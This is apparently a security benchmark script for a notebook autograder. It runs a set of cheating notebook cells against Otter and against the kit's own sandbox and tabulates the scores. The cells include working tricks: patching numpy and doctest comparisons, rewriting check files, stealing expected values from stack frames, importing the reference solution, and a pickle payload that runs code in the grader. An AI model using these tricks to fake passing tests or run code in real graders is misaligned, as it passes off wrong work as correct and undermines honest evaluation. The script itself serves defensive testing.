"""What tricks earn, in Otter and here: python -m benchmarks.tricks

Three small exercises of one point each. For Otter they have checks as these are usually written: a doctest, and
functions that compare with a reference or with expected values. A notebook answers wrongly, with a trick, or rightly,
with a fault. Prints the table of docs/security.md.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import tempfile
from dataclasses import dataclass
from pathlib import Path

from nbformat import v4, write

from autograder.sandbox import Allowed, Level, Zygote, choose
from tests.hostile.setting import LIMITS, examiner, outcomes, provided, submission

BIN = Path(sys.executable).parent
QUESTIONS = ("mean", "relu", "row_sums")
PATIENCE = 60  # seconds for `otter run`, which takes about six

CHECKS = {
    "mean": '''
OK_FORMAT = True
code = """
>>> bool(mean([1.0, 2.0, 6.0]) == 3.0)
True
"""
suite = {"cases": [{"code": code, "hidden": False}], "scored": True, "setup": "", "teardown": "", "type": "doctest"}
test = {"name": "mean", "points": 1, "suites": [suite]}
''',
    "relu": """
OK_FORMAT = False
from otter.test_files import test_case
name, points = "relu", 1
@test_case(points=1)
def check(relu):
    import numpy as np
    from reference import relu as solution
    z = np.array([-2.0, 0.0, 3.0])
    expected = solution(z)
    np.testing.assert_allclose(relu(z), expected)
""",
    "row_sums": """
OK_FORMAT = False
from otter.test_files import test_case
name, points = "row_sums", 1
@test_case(points=1)
def check(row_sums):
    import numpy as np
    A = np.array([[1.0, 2.0], [3.0, 5.0]])
    expected = np.array([3.0, 8.0])
    assert np.allclose(row_sums(A), expected)
""",
}
REFERENCE = """
import numpy as np
def mean(x): return sum(x) / len(x)
def relu(z): return np.maximum(z, 0)
def row_sums(A): return A.sum(axis=1)
"""
WRONG = """
import numpy as np
def mean(x): return 0.0
def relu(z): return np.zeros_like(z)
def row_sums(A): return np.zeros(len(A))
"""


@dataclass(frozen=True)
class Trick:
    """A cell, what it does in words, and how many of the three points it deserves."""

    about: str
    cell: str
    deserves: int = 0


TRICKS = (
    Trick("no trick: every answer is wrong", WRONG),
    Trick(
        "replaces what compares numbers",
        WRONG
        + """
np.testing.assert_allclose = lambda *_, **__: None
np.allclose = lambda *_, **__: True
""",
    ),
    Trick(
        "takes the comparison out of the checks",
        WRONG
        + """
import pathlib
for path in pathlib.Path(".").rglob("*.py"):
    try:
        text = path.read_text()
        for old, new in (("assert ", ""), ("np.testing.assert_allclose", "print"), ("== 3.0", "!= 3.0")):
            text = text.replace(old, new)
        path.write_text(text)
    except OSError:
        pass
""",
    ),
    Trick(
        "answers with an object that equals everything",
        """
import numpy as np
class Everything(np.ndarray):
    def __eq__(self, other): return True
    def __array_function__(self, *_, **__): return True
    def __array_ufunc__(self, *_, **__): return np.True_
mean = relu = row_sums = lambda *_: np.zeros(()).view(Everything)
""",
    ),
    Trick(
        "takes what is expected from its caller",
        WRONG
        + """
import sys
def found(*_):
    frame = sys._getframe()
    while frame:
        if "expected" in frame.f_locals:
            return frame.f_locals["expected"]
        frame = frame.f_back
relu = row_sums = found
""",
    ),
    Trick(
        "lets PyTorch do it",
        """
import torch
def mean(x): return float(torch.tensor(x).mean())
def relu(z): return torch.relu(torch.tensor(z)).numpy()
def row_sums(A): return torch.tensor(A).sum(1).numpy()
""",
    ),
    Trick(
        "runs the reference that it finds",
        """
try:
    from reference import mean, relu, row_sums
except ImportError:
    from solutions.activations import relu
""",
    ),
    Trick(
        "replaces the grader's own functions",
        WRONG
        + """
import doctest
doctest.OutputChecker.check_output = lambda *_: True
from otter.test_files import exception_test
exception_test.test_case.call_func = lambda *_: None
""",
    ),
    Trick(
        "reads the checks and answers what stands there",
        WRONG
        + """
import pathlib, re
text = "".join(path.read_text() for path in pathlib.Path(".").rglob("*.py"))
def relu(z): return eval(re.findall("expected = (np.maximum.*)", text)[0])
def row_sums(A): return eval(re.findall("expected = (np.array.*)", text)[0])
""",
    ),
    Trick(
        "has the grader run code, by what it leaves for it to read",
        WRONG
        + """
import os, pickle
dump, here = pickle.dump, os.getpid()
class Message:
    def __reduce__(self): return exec, (f"import os; open('{MARK}', 'w').close() if os.getpid() != {here} else 0",)
pickle.dump = lambda results, file: dump(Message(), file)
""",
    ),
    Trick("never ends, in one function", REFERENCE + "def relu(z):\n    while True: pass", 2),
    Trick("ends its process, in one function", REFERENCE + "import os\ndef relu(z): os._exit(0)", 2),
    Trick("right, with a print left in", REFERENCE + "def mean(x): print('here'); return sum(x) / len(x)", 3),
)


def main() -> None:
    """Print the table, a row as soon as it is known."""
    level = choose("auto")
    print(f"| the notebook | it deserves | Otter 7.0.0 | this kit, isolation {level.name} |\n|---|---|---|---|")
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        autograder = otter_autograder(folder)
        for trick in TRICKS:
            mark = folder / "mark"
            cell = trick.cell.replace("{MARK}", str(mark))
            theirs = by_otter(cell, autograder, folder)
            theirs += " and runs its code" if mark.exists() else ""
            mark.unlink(missing_ok=True)
            ours = f"{here(cell, level)} of 3" + (" and runs its code" if mark.exists() else "")
            print(f"| {trick.about} | {trick.deserves} of 3 | {theirs} | {ours} |", flush=True)


def otter_autograder(folder: Path) -> Path:
    """Otter's zip file with the checks above."""
    (folder / "tests").mkdir()
    for name, text in CHECKS.items():
        (folder / "tests" / f"{name}.py").write_text(text, "utf-8")
    (folder / "reference.py").write_text(REFERENCE, "utf-8")
    command: list[str | Path] = [BIN / "otter", "generate", "-t", "tests", "-o", "autograder.zip", "reference.py"]
    subprocess.run(command, cwd=folder, check=True, capture_output=True)
    return folder / "autograder.zip"


def by_otter(cell: str, autograder: Path, folder: Path) -> str:
    """What `otter run` gives a notebook."""
    notebook, results = folder / "notebook.ipynb", folder / "results.json"
    write(v4.new_notebook(cells=[v4.new_code_cell(cell)]), notebook)
    results.unlink(missing_ok=True)
    command: list[str | Path] = [BIN / "otter", "run", notebook, "-a", autograder, "-o", folder]
    with subprocess.Popen(
        command, cwd=folder, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
    ) as process:
        try:
            process.wait(PATIENCE)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)  # with the kernel that it started
            return "never ends"
    tests = json.loads(results.read_text("utf-8"))["tests"] if results.exists() else []
    scored = {test["name"].split()[0]: test["score"] for test in tests if "score" in test}
    return f"{sum(scored.get(name, 0) for name in QUESTIONS):g} of 3" if scored else "no result"


def here(cell: str, level: Level) -> int:
    """The points that a notebook gets here, of the same three."""
    with tempfile.TemporaryDirectory() as name:
        folder = provided(Path(name))
        folder.chmod(0o755)  # where submissions run as another user
        with Zygote(Allowed(("numpy",), folder, LIMITS), level) as zygote:
            became = outcomes(examiner(folder).grade(submission(cell), zygote))
    return sum(became[name].passed for name in QUESTIONS)


if __name__ == "__main__":
    main()
